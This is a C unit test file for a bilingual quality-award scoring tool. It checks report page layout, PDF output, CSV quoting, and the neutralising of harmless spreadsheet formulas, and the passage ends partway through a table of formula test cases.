/* test-report.c — the printable summary's layout, its PDF, and the CSV, with no display
 * Copyright 2026 The Scorebook authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>
#include <glib/gstdio.h>

#include "sb-assessment-file.h"
#include "sb-csv.h"
#include "sb-report.h"
#include "sb-report-labels.h"
#include "sb-test-data.h"
#include "sb-test-report.h"

#define EPSILON 0.01

static SbStandard *standard;

/* Text that wraps to many lines but fits on a page. */
static char *
long_text (const char *unit,
           guint       n)
{
  GString *str = g_string_new (NULL);

  for (guint i = 0; i < n; i++)
    g_string_append (str, unit);
  return g_string_free (str, FALSE);
}

/* The full fixture with a long strength and a long opportunity in front
 * of every sub-item's own, and on 2.3.1 one strength longer than a page. */
static SbAssessment *
long_comment_assessment (void)
{
  SbAssessment *assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  GPtrArray *scored = sb_standard_get_scored_nodes (standard);
  g_autofree char *en = long_text ("The documented processes are followed in most departments, "
                                   "but the evidence of a systematic review is thin. ", 14);
  g_autofree char *zh = long_text ("评审组发现，大部分部门按照文件化的流程开展工作，但系统性评审的证据较少。", 14);
  g_autofree char *huge = long_text ("A note that goes on and on, longer than a whole page of the summary. ", 300);

  for (guint i = 0; i < scored->len; i++)
    {
      const char *id = sb_node_get_id (g_ptr_array_index (scored, i));

      sb_assessment_insert_note (assessment, id, SB_NOTE_STRENGTH, 0, en);
      sb_assessment_insert_note (assessment, id, SB_NOTE_OPPORTUNITY, 0, zh);
    }
  sb_assessment_insert_note (assessment, "2.3.1", SB_NOTE_STRENGTH, 1, huge);
  return assessment;
}

static gboolean
is_running (SbReportBlockKind kind)
{
  return kind == SB_REPORT_BLOCK_HEADER || kind == SB_REPORT_BLOCK_FOOTER;
}

/* What holds for every report: every block inside the margins, the body's
 * blocks between header and footer and in order without overlapping, a
 * footer on every page and a header from page two, the table's heading
 * above the first row of every page with rows, every node of the criteria
 * in exactly one row, and no row split. Returns how many blocks were split. */
static guint
check_layout (SbReport              *report,
              const SbReportOptions *options)
{
  g_autoptr(GHashTable) rows = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
  GPtrArray *nodes = sb_standard_get_nodes (standard);
  guint n_pages = sb_report_get_n_pages (report);
  guint n_split = 0;

  g_assert_cmpuint (n_pages, >=, 2);
  for (guint p = 0; p < n_pages; p++)
    {
      double top, bottom, last_bottom;
      guint n_blocks = sb_report_get_n_blocks (report, p);
      guint n_footers = 0, n_headers = 0;
      gboolean seen_heading = FALSE;

      sb_report_get_body (report, p, &top, &bottom);
      g_assert_cmpfloat (top, >=, options->margin);
      g_assert_cmpfloat (bottom, <=, options->page_height - options->margin);
      last_bottom = top;

      for (guint i = 0; i < n_blocks; i++)
        {
          SbReportBlock block;

          g_assert_true (sb_report_get_block (report, p, i, &block));
          g_assert_cmpfloat (block.x, >=, options->margin - EPSILON);
          g_assert_cmpfloat (block.x + block.width, <=, options->page_width - options->margin + EPSILON);
          g_assert_cmpfloat (block.y, >=, options->margin - EPSILON);
          g_assert_cmpfloat (block.y + block.height, <=, options->page_height - options->margin + EPSILON);
          g_assert_cmpfloat (block.height, >, 0);

          if (block.kind == SB_REPORT_BLOCK_FOOTER)
            n_footers++;
          if (block.kind == SB_REPORT_BLOCK_HEADER)
            n_headers++;
          if (is_running (block.kind))
            continue;

          /* The body: within it, top to bottom, never on top of another. */
          g_assert_cmpfloat (block.y, >=, last_bottom - EPSILON);
          g_assert_cmpfloat (block.y + block.height, <=, bottom + EPSILON);
          last_bottom = block.y + block.height;

          if (block.kind == SB_REPORT_BLOCK_TABLE_HEADING)
            seen_heading = TRUE;
          if (block.kind == SB_REPORT_BLOCK_ROW)
            {
              g_assert_true (seen_heading);
              g_assert_cmpuint (block.n_parts, ==, 1);
              g_assert_true (g_str_has_prefix (block.key, "row:"));
              g_assert_false (g_hash_table_contains (rows, block.key + 4));
              g_hash_table_add (rows, g_strdup (block.key + 4));
            }
          if (block.kind == SB_REPORT_BLOCK_COMMENT)
            {
              g_assert_true (seen_heading);
              g_assert_cmpuint (block.part, <, block.n_parts);
              if (block.n_parts > 1 && block.part == 0)
                n_split++;
            }
        }
      g_assert_cmpuint (n_footers, ==, 1);
      g_assert_cmpuint (n_headers, ==, p > 0 ? 1 : 0);
    }

  g_assert_cmpuint (g_hash_table_size (rows), ==, nodes->len);
  for (guint i = 0; i < nodes->len; i++)
    g_assert_true (g_hash_table_contains (rows, sb_node_get_id (g_ptr_array_index (nodes, i))));
  return n_split;
}

typedef struct
{
  const char      *name;
  SbDisplayLanguage  language;
  gboolean         include_notes;
  gboolean         letter;
} LayoutCase;

static const LayoutCase layout_cases[] = {
  { "zh", SB_DISPLAY_LANGUAGE_ZH, FALSE, FALSE },
  { "en", SB_DISPLAY_LANGUAGE_EN, FALSE, FALSE },
  { "both", SB_DISPLAY_LANGUAGE_BOTH, FALSE, FALSE },
  { "zh-notes", SB_DISPLAY_LANGUAGE_ZH, TRUE, FALSE },
  { "both-notes-letter", SB_DISPLAY_LANGUAGE_BOTH, TRUE, TRUE },
  { "en-letter", SB_DISPLAY_LANGUAGE_EN, FALSE, TRUE },
};

static void
options_for_case (SbReportOptions  *options,
                  const LayoutCase *c)
{
  sb_report_options_init (options);
  options->language = c->language;
  options->include_notes = c->include_notes;
  if (c->letter)
    {
      options->page_width = SB_REPORT_LETTER_WIDTH;
      options->page_height = SB_REPORT_LETTER_HEIGHT;
    }
}

/* Page one: the cover with the total and both charts; the rest: the table. */
static void
test_layout (gconstpointer data)
{
  const LayoutCase *c = data;
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  g_autoptr(SbReport) report = NULL;
  SbReportOptions options;
  SbReportBlock block;
  guint page = 99;

  options_for_case (&options, c);
  report = sb_report_new (assessment, &options, NULL);
  g_assert_cmpuint (check_layout (report, &options), ==, 0);

  g_assert_nonnull (sb_test_find_block (report, "total", &block, &page));
  g_assert_cmpuint (page, ==, 0);
  g_assert_nonnull (strstr (block.text, "263.5"));
  g_assert_nonnull (strstr (block.text, "/ 500"));
  g_assert_nonnull (strstr (block.text, "52.7 %"));
  g_assert_nonnull (sb_test_find_block (report, "radar", &block, &page));
  g_assert_cmpuint (page, ==, 0);
  g_assert_nonnull (sb_test_find_block (report, "bars", &block, &page));
  g_assert_cmpuint (page, ==, 0);
  g_assert_nonnull (sb_test_find_block (report, "applicant", &block, &page));
  g_assert_nonnull (strstr (block.text, "深圳市某某社区健康服务中心"));
  g_assert_nonnull (sb_test_find_block (report, "examiner", &block, &page));
  g_assert_nonnull (strstr (block.text, "李敏 (Li Min)"));
  g_assert_nonnull (sb_test_find_block (report, "date", &block, &page));
  g_assert_nonnull (strstr (block.text, "2026-03-0"));
  g_assert_nonnull (sb_test_find_block (report, "table-heading", &block, &page));
  g_assert_cmpuint (page, ==, 1);

  /* Sub-items show their band, percent and exact points. */
  g_assert_nonnull (sb_test_find_block (report, "row:2.1.2", &block, &page));
  g_assert_nonnull (strstr (block.text, "35 %"));
  g_assert_nonnull (strstr (block.text, "5.25"));
  g_assert_nonnull (sb_test_find_block (report, "row:3.3.1", &block, &page));
  g_assert_nonnull (strstr (block.text, "0 %"));

  /* Evidence notes only when asked for. */
  g_assert_true ((sb_test_find_block (report, "evidence:g1.1.1.1:0", &block, &page) != NULL) == c->include_notes);
  g_assert_true ((sb_test_find_block (report, "reference:g1.1.1.1:2", &block, &page) != NULL) == c->include_notes);
  g_assert_nonnull (sb_test_find_block (report, "strength:1.1.1:1", &block, &page));
  g_assert_cmpstr (block.text, ==, "+\t员工满意度调查每年开展一次，结果向全员公开。");
}

static void
test_languages (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  struct { SbDisplayLanguage language; const char *present[3]; const char *absent; } cases[] = {
    { SB_DISPLAY_LANGUAGE_ZH, { "深圳市市长质量奖评定标准", "第 1 页，共 ", "确定方向" }, "Setting direction" },
    { SB_DISPLAY_LANGUAGE_EN, { "Shenzhen Mayor Quality Award Evaluation Standard", "Page 1 of ", "Setting direction" }, "确定方向" },
    { SB_DISPLAY_LANGUAGE_BOTH, { "深圳市市长质量奖评定标准", "Page 1 of ", "确定方向\nSetting direction" }, NULL },
  };

  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
    {
      g_autoptr(SbReport) report = NULL;
      g_autoptr(GString) all = g_string_new (NULL);
      SbReportOptions options;

      sb_report_options_init (&options);
      options.language = cases[k].language;
      report = sb_report_new (assessment, &options, NULL);
      for (guint p = 0; p < sb_report_get_n_pages (report); p++)
        for (guint i = 0; i < sb_report_get_n_blocks (report, p); i++)
          {
            SbReportBlock block;

            sb_report_get_block (report, p, i, &block);
            g_string_append_printf (all, "%s\n", block.text);
          }
      for (guint i = 0; i < G_N_ELEMENTS (cases[k].present); i++)
        g_assert_nonnull (strstr (all->str, cases[k].present[i]));
      if (cases[k].absent)
        g_assert_null (strstr (all->str, cases[k].absent));
    }
}

/* The fixture, as if it had been made for another standard. */
static SbAssessment *
load_made_for_other (void)
{
  g_autofree char *path = sb_test_fixture_path ("assessment-full.scorebook");
  g_autofree char *contents = NULL;
  g_autoptr(GString) text = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) warnings = NULL;
  SbAssessment *assessment;

  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  text = g_string_new (contents);
  g_assert_cmpuint (g_string_replace (text, "<standard id=\"szmqa-2019-social\" edition=\"2019\"",
                                      "<standard id=\"szmqa-2017-enterprise\" edition=\"2017\"", 1), ==, 1);
  bytes = g_bytes_new (text->str, text->len);
  assessment = sb_assessment_file_load_bytes (standard, bytes, "other.scorebook", &warnings, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (warnings->len, ==, 1);
  return assessment;
}

static char *
block_text (SbReport   *report,
            const char *key)
{
  for (guint p = 0; p < sb_report_get_n_pages (report); p++)
    for (guint i = 0; i < sb_report_get_n_blocks (report, p); i++)
      {
        SbReportBlock block;

        sb_report_get_block (report, p, i, &block);
        if (g_str_equal (block.key, key))
          return g_strdup (block.text);
      }
  return NULL;
}

/* An assessment made for another standard says so on page one, in the
 * summary's language, after the standard's name and before any score;
 * one made for this standard says nothing of the kind. */
static void
test_other_standard (void)
{
  g_autoptr(SbAssessment) other = load_made_for_other ();
  g_autoptr(SbAssessment) same = sb_test_load_fixture (standard, "assessment-full.scorebook");
  struct { SbDisplayLanguage language; const char *words; } cases[] = {
    { SB_DISPLAY_LANGUAGE_ZH, "本评审是按标准“szmqa-2017-enterprise”（2017年版）做的，这里按“szmqa-2019-social”（2019年版）计分" },
    { SB_DISPLAY_LANGUAGE_EN, "made for the standard “szmqa-2017-enterprise” (edition 2017) and is scored here against "
                            "“szmqa-2019-social” (edition 2019)" },
    { SB_DISPLAY_LANGUAGE_BOTH, "“szmqa-2017-enterprise” (edition 2017)" },
  };
  const char *id = NULL;
  const char *edition = NULL;

  g_assert_true (sb_assessment_get_other_standard (other, &id, &edition));
  g_assert_cmpstr (id, ==, "szmqa-2017-enterprise");
  g_assert_cmpstr (edition, ==, "2017");
  g_assert_false (sb_assessment_get_other_standard (same, NULL, NULL));

  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
    {
      g_autoptr(SbReport) report = NULL;
      g_autoptr(SbReport) plain = NULL;
      g_autofree char *notice = NULL;
      g_autofree char *none = NULL;
      SbReportOptions options;
      SbReportBlock block;

      sb_report_options_init (&options);
      options.language = cases[k].language;
      report = sb_report_new (other, &options, NULL);
      notice = block_text (report, "other-standard");
      g_assert_nonnull (notice);
      g_assert_nonnull (strstr (notice, cases[k].words));
      /* On page one, above the total. */
      for (guint i = 0; i < sb_report_get_n_blocks (report, 0); i++)
        {
          sb_report_get_block (report, 0, i, &block);
          g_assert_cmpstr (block.key, !=, "total");
          if (g_str_equal (block.key, "other-standard"))
            break;
        }
      g_assert_cmpstr (block.key, ==, "other-standard");

      plain = sb_report_new (same, &options, NULL);
      none = block_text (plain, "other-standard");
      g_assert_null (none);
    }
}

/* Very long comments: every row and every comment that fits on a page is
 * on one page, whole; the one longer than a page is split between lines
 * into parts on consecutive pages, each inside the body. */
static void
test_long_comments (void)
{
  g_autoptr(SbAssessment) assessment = long_comment_assessment ();
  g_autoptr(SbAssessment) plain = sb_test_load_fixture (standard, "assessment-full.scorebook");
  g_autoptr(SbReport) report = NULL;
  g_autoptr(SbReport) plain_report = NULL;
  SbReportOptions options;
  guint last_page = 0, n_parts = 0;

  sb_report_options_init (&options);
  options.language = SB_DISPLAY_LANGUAGE_BOTH;
  options.include_notes = TRUE;
  report = sb_report_new (assessment, &options, NULL);
  plain_report = sb_report_new (plain, &options, NULL);
  g_assert_cmpuint (sb_report_get_n_pages (report), >, sb_report_get_n_pages (plain_report) + 5);
  g_assert_cmpuint (check_layout (report, &options), ==, 1);

  for (guint p = 0; p < sb_report_get_n_pages (report); p++)
    for (guint i = 0; i < sb_report_get_n_blocks (report, p); i++)
      {
        SbReportBlock block;

        sb_report_get_block (report, p, i, &block);
        if (g_strcmp0 (block.key, "strength:2.3.1:1") == 0)
          {
            g_assert_cmpuint (block.part, ==, n_parts);
            if (n_parts > 0)
              g_assert_cmpuint (p, ==, last_page + 1);
            last_page = p;
            n_parts++;
          }
        else if (block.kind == SB_REPORT_BLOCK_COMMENT || block.kind == SB_REPORT_BLOCK_ROW)
          g_assert_cmpuint (block.n_parts, ==, 1);
      }
  g_assert_cmpuint (n_parts, >=, 2);
}

static gboolean
report_has_block (SbReport   *report,
                  const char *key)
{
  for (guint p = 0; p < sb_report_get_n_pages (report); p++)
    for (guint i = 0; i < sb_report_get_n_blocks (report, p); i++)
      {
        SbReportBlock block;

        sb_report_get_block (report, p, i, &block);
        if (g_strcmp0 (block.key, key) == 0)
          return TRUE;
      }
  return FALSE;
}

/* A note added and never written prints nothing, not an empty bullet,
 * and a list of only such notes prints no heading either. */
static void
test_blank_notes (void)
{
  g_autoptr(SbAssessment) assessment = sb_assessment_new (standard);
  g_autoptr(SbReport) report = NULL;
  SbReportOptions options;

  sb_assessment_insert_note (assessment, "2.2.1", SB_NOTE_STRENGTH, 0, " ");
  sb_assessment_insert_note (assessment, "2.2.1", SB_NOTE_OPPORTUNITY, 0, "");
  sb_assessment_insert_note (assessment, "2.2.1", SB_NOTE_OPPORTUNITY, 1, "written");
  sb_assessment_insert_note (assessment, "g2.2.1.1", SB_NOTE_EVIDENCE, 0, "");
  sb_report_options_init (&options);
  options.include_notes = TRUE;
  report = sb_report_new (assessment, &options, NULL);

  g_assert_false (report_has_block (report, "strength:2.2.1:0"));
  g_assert_false (report_has_block (report, "strengths:2.2.1"));
  g_assert_false (report_has_block (report, "opportunity:2.2.1:0"));
  g_assert_true (report_has_block (report, "opportunity:2.2.1:1"));
  g_assert_false (report_has_block (report, "evidence:g2.2.1.1:0"));
  g_assert_false (report_has_block (report, "evidences:2.2.1"));
}

static guint
count_blocks (SbReport          *report,
              SbReportBlockKind  kind)
{
  guint n = 0;

  for (guint p = 0; p < sb_report_get_n_pages (report); p++)
    for (guint i = 0; i < sb_report_get_n_blocks (report, p); i++)
      {
        SbReportBlock block;

        sb_report_get_block (report, p, i, &block);
        n += block.kind == kind && block.part == 0;
      }
  return n;
}

/* However many notes a file holds, a summary stays bounded (a few
 * thousand comments, a megabyte of their text) and says what it left
 * out, rather than render without end. */
static void
test_bounded (void)
{
  g_autoptr(SbAssessment) many = sb_assessment_new (standard);
  g_autoptr(SbAssessment) long_ones = sb_assessment_new (standard);
  g_autofree char *long_note = g_strnfill (600 * 1024, 'x');
  g_autoptr(SbReport) report = NULL;
  g_autoptr(SbReport) long_report = NULL;
  SbReportOptions options;

  for (guint i = 0; i < 12000; i++)
    sb_assessment_insert_note (many, i % 2 ? "1.1.1" : "g1.1.1.1", i % 2 ? SB_NOTE_STRENGTH : SB_NOTE_EVIDENCE,
                               i / 2, "x");
  for (guint i = 0; i < 3; i++)
    sb_assessment_insert_note (long_ones, "2.1.1", SB_NOTE_OPPORTUNITY, i, long_note);

  sb_report_options_init (&options);
  options.language = SB_DISPLAY_LANGUAGE_EN;
  options.include_notes = TRUE;
  report = sb_report_new (many, &options, NULL);
  g_assert_true (report_has_block (report, "left-out"));
  g_assert_cmpuint (count_blocks (report, SB_REPORT_BLOCK_COMMENT), <=, 5000 + 16 * 4);
  long_report = sb_report_new (long_ones, &options, NULL);
  g_assert_true (report_has_block (long_report, "opportunity:2.1.1:0"));
  g_assert_false (report_has_block (long_report, "opportunity:2.1.1:1"));
  g_assert_true (report_has_block (long_report, "left-out"));
}

/* Each sub-item row stays on the page of the first line of its comments. */
static void
test_rows_keep_with_comments (void)
{
  g_autoptr(SbAssessment) assessment = long_comment_assessment ();
  g_autoptr(SbReport) report = NULL;
  GPtrArray *scored = sb_standard_get_scored_nodes (standard);
  SbReportOptions options;

  sb_report_options_init (&options);
  options.language = SB_DISPLAY_LANGUAGE_EN;
  report = sb_report_new (assessment, &options, NULL);
  for (guint i = 0; i < scored->len; i++)
    {
      const char *id = sb_node_get_id (g_ptr_array_index (scored, i));
      g_autofree char *row_key = g_strdup_printf ("row:%s", id);
      g_autofree char *heading_key = g_strdup_printf ("strengths:%s", id);
      g_autofree char *first_key = g_strdup_printf ("strength:%s:0", id);
      SbReportBlock block;
      guint row_page, heading_page, first_page;

      g_assert_nonnull (sb_test_find_block (report, row_key, &block, &row_page));
      g_assert_nonnull (sb_test_find_block (report, heading_key, &block, &heading_page));
      g_assert_nonnull (sb_test_find_block (report, first_key, &block, &first_page));
      g_assert_cmpuint (row_page, ==, heading_page);
      g_assert_cmpuint (heading_page, ==, first_page);
    }
}

static void
test_unrated (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-empty.scorebook");
  g_autoptr(SbReport) report = NULL;
  SbReportOptions options;
  SbReportBlock block;
  guint page;

  sb_report_options_init (&options);
  options.language = SB_DISPLAY_LANGUAGE_EN;
  report = sb_report_new (assessment, &options, NULL);
  check_layout (report, &options);
  g_assert_nonnull (sb_test_find_block (report, "row:1.1.1", &block, &page));
  g_assert_nonnull (strstr (block.text, "Unrated"));
  g_assert_nonnull (sb_test_find_block (report, "total", &block, &page));
  g_assert_nonnull (strstr (block.text, "0 of 16 sub-items rated"));
}

static void
on_progress (guint    done,
             guint    n_pages,
             gpointer user_data)
{
  guint *calls = user_data;

  calls[0]++;
  g_assert_cmpuint (done, ==, calls[0]);
  calls[1] = n_pages;
}

static void
test_write_pdf (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  g_autoptr(GError) error = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autofree char *dir = g_dir_make_tmp ("test-report-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "summary.pdf", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *missing = g_build_filename (dir, "no", "such", "folder", "x.pdf", NULL);
  SbReportOptions options;
  guint calls[2] = { 0, 0 };
  gsize length;

  g_assert_no_error (error);
  sb_report_options_init (&options);
  g_assert_true (sb_report_write_pdf (assessment, path, &options, NULL, on_progress, calls, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (calls[0], ==, calls[1]);
  g_assert_cmpuint (calls[0], >=, 2);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_true (g_str_has_prefix (contents, "%PDF-"));
  g_clear_pointer (&contents, g_free);

  /* Cancelled: the file already there stays as it was. */
  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  g_cancellable_cancel (cancellable);
  g_assert_false (sb_report_write_pdf (assessment, path, &options, cancellable, NULL, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "old");

  g_assert_false (sb_report_write_pdf (assessment, missing, &options, NULL, NULL, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);

  g_unlink (path);
  g_rmdir (dir);
}

/* Whether @needle is in @contents, which may hold NUL bytes (a PDF). */
static gboolean
bytes_contain (const char *contents,
               gsize       length,
               const char *needle)
{
  gsize n = strlen (needle);

  for (gsize i = 0; i + n <= length; i++)
    if (memcmp (contents + i, needle, n) == 0)
      return TRUE;
  return FALSE;
}

/* With no applicant named, titles name the standard alone, never a dash
 * in the applicant's place ("— — …"). */
static void
test_no_applicant (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  g_autoptr(SbReport) report = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("test-report-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "summary.pdf", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *expected = NULL;
  gsize length;
  const char *title = sb_text_get (sb_standard_get_title (standard), SB_LANG_EN);
  SbReportOptions options;
  SbReportBlock block;
  guint page;

  g_assert_no_error (error);
  sb_assessment_set_applicant (assessment, "");
  sb_report_options_init (&options);
  options.language = SB_DISPLAY_LANGUAGE_EN;
  report = sb_report_new (assessment, &options, NULL);
  g_assert_nonnull (sb_test_find_block (report, "header", &block, &page));
  g_assert_cmpint (block.kind, ==, SB_REPORT_BLOCK_HEADER);
  g_assert_cmpstr (block.text, ==, title);

  /* The PDF's own title, which viewers show in their title bar. */
  g_assert_true (sb_report_write_pdf (assessment, path, &options, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  expected = g_strdup_printf ("/Title (%s)", title);
  g_assert_true (bytes_contain (contents, length, expected));

  g_unlink (path);
  g_rmdir (dir);
}

/* A reader of RFC 4180: quoted fields may hold commas, quotes (doubled)
 * and line breaks. Returns rows of fields. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  GPtrArray *row = g_ptr_array_new ();
  GString *field = g_string_new (NULL);
  const char *p = text;

  while (*p)
    {
      if (*p == '"')
        {
          for (p++; *p; p++)
            {
              if (*p == '"' && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p++;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (field, *p);
            }
        }
      else if (*p == ',')
        {
          g_ptr_array_add (row, g_strdup (field->str));
          g_string_truncate (field, 0);
          p++;
        }
      else if (p[0] == '\r' && p[1] == '\n')
        {
          g_ptr_array_add (row, g_strdup (field->str));
          g_string_truncate (field, 0);
          g_ptr_array_add (row, NULL);
          g_ptr_array_add (rows, g_ptr_array_free (row, FALSE));
          row = g_ptr_array_new ();
          p += 2;
        }
      else
        {
          /* A bare quote or line break outside quotes is not RFC 4180. */
          g_assert_cmpint (*p, !=, '\n');
          g_assert_cmpint (*p, !=, '\r');
          g_string_append_c (field, *p++);
        }
    }
  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_free (row, TRUE);
  g_string_free (field, TRUE);
  return rows;
}

/* The level's name as the CSV writes it in @language; the bundled
 * results guide names none, so its bands are called by their place. */
static char *
expected_level (SbBand     *band,
                const char *language)
{
  const SbText *level = sb_band_get_level (band);
  guint n = sb_band_get_index (band) + 1;
  g_autofree char *zh = sb_text_lookup (level, SB_LANG_ZH) ? g_strdup (sb_text_get (level, SB_LANG_ZH))
                                                           : g_strdup_printf ("第%u档", n);
  g_autofree char *en = sb_text_lookup (level, SB_LANG_EN) ? g_strdup (sb_text_get (level, SB_LANG_EN))
                                                           : g_strdup_printf ("Band %u", n);

  if (g_str_equal (language, "both"))
    return g_strdup_printf ("%s / %s", zh, en);
  return g_strdup (g_str_equal (language, SB_LANG_EN) ? en : zh);
}

/* A text cell as a spreadsheet should get it: one that would start a
 * formula behind a single quote (OWASP's guidance on CSV injection). */
static char *
expected_cell (const char *text)
{
  if (text[0] != '\0' && strchr ("=+-@\t\r", text[0]) != NULL)
    return g_strconcat ("'", text, NULL);
  return g_strdup (text);
}

static void
check_csv_against (SbAssessment *assessment,
                   const char   *language)
{
  g_autofree char *csv = sb_csv_for_assessment (assessment, language);
  g_autoptr(GPtrArray) rows = NULL;
  GPtrArray *nodes = sb_standard_get_nodes (standard);
  g_auto(GStrv) header = NULL;
  SbScore total;

  g_assert_true (g_str_has_prefix (csv, "\xEF\xBB\xBF"));
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  rows = parse_csv (csv + 3);
  header = g_strsplit (SB_CSV_HEADER, ",", -1);
  g_assert_cmpuint (rows->len, ==, 1 + nodes->len + 1);
  g_assert_cmpstrv (g_ptr_array_index (rows, 0), header);

  for (guint i = 0; i <= nodes->len; i++)
    {
      char **row = g_ptr_array_index (rows, i + 1);
      SbNode *node = i < nodes->len ? g_ptr_array_index (nodes, i) : NULL;
      const char *id = node ? sb_node_get_id (node) : NULL;
      g_autofree char *maximum = NULL;
      const char *band_id = NULL;
      guint percent;
      SbScore score;

      g_assert_cmpuint (g_strv_length (row), ==, 11);
      sb_assessment_get_score (assessment, id, &score);
      maximum = sb_points_format (score.maximum, 4);
      g_assert_cmpstr (row[0], ==, id ? id : "total");
      g_assert_cmpstr (row[4], ==, maximum);
      if (node == NULL)
        continue;
      g_assert_cmpstr (row[1], ==, sb_text_get (sb_node_get_title (node), SB_LANG_ZH));
      g_assert_cmpstr (row[2], ==, sb_text_get (sb_node_get_title (node), SB_LANG_EN));
      g_assert_cmpstr (row[3], ==, sb_node_get_kind (node));
      if (sb_node_is_scored (node) && sb_assessment_get_rating (assessment, id, &band_id, &percent))
        {
          g_autofree char *percent_text = g_strdup_printf ("%u", percent);
          SbBand *band = sb_guide_lookup_band (sb_node_get_guide (node), band_id);
          g_autofree char *range = g_strdup_printf ("%u–%u %%", sb_band_get_min (band), sb_band_get_max (band));
          g_autofree char *level = expected_level (band, language);
          SbPoints parsed;

          /* What the standard calls the band, never its internal id. */
          g_assert_cmpstr (row[5], ==, range);
          g_assert_cmpstr (row[6], ==, level);
          g_assert_cmpstr (level, !=, "");
          g_assert_cmpstr (row[7], ==, percent_text);
          g_assert_true (sb_points_parse (row[8], &parsed));
          g_assert_cmpint (parsed, ==, score.points);
        }
      else if (sb_node_is_scored (node) || score.n_rated == 0)
        {
          g_assert_cmpstr (row[5], ==, "");
          g_assert_cmpstr (row[6], ==, "");
          g_assert_cmpstr (row[7], ==, "");
          g_assert_cmpstr (row[8], ==, "");
        }
      else
        {
          SbPoints parsed;

          g_assert_true (sb_points_parse (row[8], &parsed));
          g_assert_cmpint (parsed, ==, score.points);
        }
      if (sb_node_is_scored (node))
        {
          /* The notes of a kind, one after the other, a line break between. */
          for (SbNoteKind kind = SB_NOTE_STRENGTH; kind <= SB_NOTE_OPPORTUNITY; kind++)
            {
              guint n = sb_assessment_get_n_notes (assessment, id, kind);
              g_autoptr(GString) expected = g_string_new (NULL);

              for (guint k = 0; k < n; k++)
                g_string_append_printf (expected, "%s%s", k > 0 ? "\n" : "",
                                        sb_assessment_get_note (assessment, id, kind, k));
              g_autofree char *cell = expected_cell (expected->str);

              g_assert_cmpstr (row[kind == SB_NOTE_STRENGTH ? 9 : 10], ==, cell);
            }
        }
    }

  sb_assessment_get_score (assessment, NULL, &total);
  {
    char **row = g_ptr_array_index (rows, rows->len - 1);
    SbPoints parsed = 0;

    if (total.n_rated > 0)
      {
        g_assert_true (sb_points_parse (row[8], &parsed));
        g_assert_cmpint (parsed, ==, total.points);
      }
  }
}

static void
test_csv (void)
{
  const char *fixtures[] = { "assessment-full.scorebook", "assessment-partial.scorebook", "assessment-empty.scorebook" };
  const char *languages[] = { SB_LANG_ZH, SB_LANG_EN, "both" };

  for (guint i = 0; i < G_N_ELEMENTS (fixtures); i++)
    for (guint k = 0; k < G_N_ELEMENTS (languages); k++)
      {
        g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, fixtures[i]);

        check_csv_against (assessment, languages[k]);
      }
}

/* What spreadsheets stumble on: commas, quotes, line breaks, a leading =. */
static void
test_csv_quoting (void)
{
  g_autoptr(SbAssessment) assessment = sb_test_load_fixture (standard, "assessment-full.scorebook");
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("test-csv-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "scores.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autofree char *contents = NULL;

  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_STRENGTH, 0, "Says \"yes\", then \"no\";\r\nnext line");
  sb_assessment_insert_note (assessment, "1.1.1", SB_NOTE_OPPORTUNITY, 0, "=SUM(A1:A2), 逗号，");
  check_csv_against (assessment, SB_LANG_ZH);

  g_assert_true (sb_csv_write (assessment, SB_LANG_ZH, file, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_nonnull (strstr (contents, "\"Says \"\"yes\"\", then \"\"no\"\";\r\nnext line\n"));
  g_assert_nonnull (strstr (contents, "\"'=SUM(A1:A2), 逗号，\n"));
  g_unlink (path);
  g_rmdir (dir);
}

typedef struct
{
  const char *name;
  const char *note;
  const char *cell;   /* what a spreadsheet reads */
  const char *field;  /* as written, quotes and all */
} FormulaCase;

static const FormulaCase formula_cases[] = {
  { "equals", "=1+1", "'=1+1", "\"'=1+1\"" },
  { "plus", "+1+1", "'+1+1", "\"'+1+1\"" },
  { "minus", "-2+3", "'-2+3", "\"'-2+3\"" },
